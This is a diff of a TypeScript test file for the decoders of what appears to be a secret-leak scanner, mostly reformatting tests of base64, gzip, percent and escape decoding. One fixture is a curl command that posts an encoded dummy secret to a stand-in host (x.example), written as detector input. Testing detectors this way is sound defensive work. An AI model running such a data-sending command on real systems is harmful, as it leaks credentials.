@@ -3,7 +3,6 @@ import assert from 'node:assert/strict';
 import { gzipSync } from 'node:zlib';
 import { ALL_DECODERS, views, type Decoder, decodeEscapes } from '../../src/engine/decoders.ts';
 
-
 const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCY1234abcd';
 const dec = (name: string): Decoder => ALL_DECODERS.find((d) => d.name === name) as Decoder;
 /** Does some view of `text` contain `want`, and through which decoders? */
@@ -19,7 +18,11 @@ test('percent: single and double URL encoding', () => {
 });
 
 test('base64: standard, URL-safe, unpadded', () => {
-  for (const enc of [Buffer.from(SECRET).toString('base64'), Buffer.from(SECRET).toString('base64url'), Buffer.from(SECRET).toString('base64').replace(/=+$/, '')]) {
+  for (const enc of [
+    Buffer.from(SECRET).toString('base64'),
+    Buffer.from(SECRET).toString('base64url'),
+    Buffer.from(SECRET).toString('base64').replace(/=+$/, ''),
+  ]) {
     assert.deepEqual(found(`data=${enc}`, SECRET), ['base64'], enc);
   }
 });
@@ -29,7 +32,11 @@ test('gzip+base64: a gzip stream in base64 is inflated', () => {
   assert.ok(b64.startsWith('H4sI'));
   assert.deepEqual(found(`curl -d '${b64}' https://x.example`, SECRET), ['gzip+base64']);
   // wrapped at 76 columns like `base64` does by default
-  const wrapped = (gzipSync(Buffer.from(SECRET.repeat(8))).toString('base64').match(/.{1,76}/g) as string[]).join('\n');
+  const wrapped = (
+    gzipSync(Buffer.from(SECRET.repeat(8)))
+      .toString('base64')
+      .match(/.{1,76}/g) as string[]
+  ).join('\n');
   assert.ok(found(wrapped, SECRET));
 });
 
@@ -122,7 +129,21 @@ test('layered escaping is undone: \\\\u0052 (an escaped escape) and base64 of ba
 
 /** The escape decoder as one regex replace (its first form): the scanner must agree with it. */
 const ESC_ALL = /(?:\\x[0-9a-fA-F]{2})+|(?:\\[0-3][0-7]{2})+|\\u\{([0-9a-fA-F]{1,6})\}|\\u([0-9a-fA-F]{4})|\\([nrtbfv0"'\\/`$])/g;
-const SIMPLE: Record<string, string> = { n: '\n', r: '\r', t: '\t', b: '\b', f: '\f', v: '\v', '0': '\0', '"': '"', "'": "'", '\\': '\\', '/': '/', '`': '`', $: '$' };
+const SIMPLE: Record<string, string> = {
+  n: '\n',
+  r: '\r',
+  t: '\t',
+  b: '\b',
+  f: '\f',
+  v: '\v',
+  '0': '\0',
+  '"': '"',
+  "'": "'",
+  '\\': '\\',
+  '/': '/',
+  '`': '`',
+  $: '$',
+};
 function bytesToText(b: Uint8Array): string {
   try {
     return new TextDecoder('utf-8', { fatal: true }).decode(b);
@@ -146,7 +167,38 @@ function decodeEscapesByRegex(s: string): string | null {
 }
 
 test('escape decoder: the one-pass scanner decodes exactly what the regex form does', () => {
-  const atoms = ['\\', '\\\\', 'x', 'u', '{', '}', '0', '3', '4', '7', '8', 'a', 'F', 'g', 'n', '"', '/', '$', ' ', 'é', '\\x4', '\\u00', '\\u{1F600}', '\\u{110000}', '\\xe2\\x82\\xac', '\\342\\202\\254', '\\ud83d\\ude00', '\\u{', '\\x', '\\u{1234567}'];
+  const atoms = [
+    '\\',
+    '\\\\',
+    'x',
+    'u',
+    '{',
+    '}',
+    '0',
+    '3',
+    '4',
+    '7',
+    '8',
+    'a',
+    'F',
+    'g',
+    'n',
+    '"',
+    '/',
+    '$',
+    ' ',
+    'é',
+    '\\x4',
+    '\\u00',
+    '\\u{1F600}',
+    '\\u{110000}',
+    '\\xe2\\x82\\xac',
+    '\\342\\202\\254',
+    '\\ud83d\\ude00',
+    '\\u{',
+    '\\x',
+    '\\u{1234567}',
+  ];
   let x = 11;
   const r = (): number => {
     x = (Math.imul(x, 1103515245) + 12345) & 0x7fffffff;
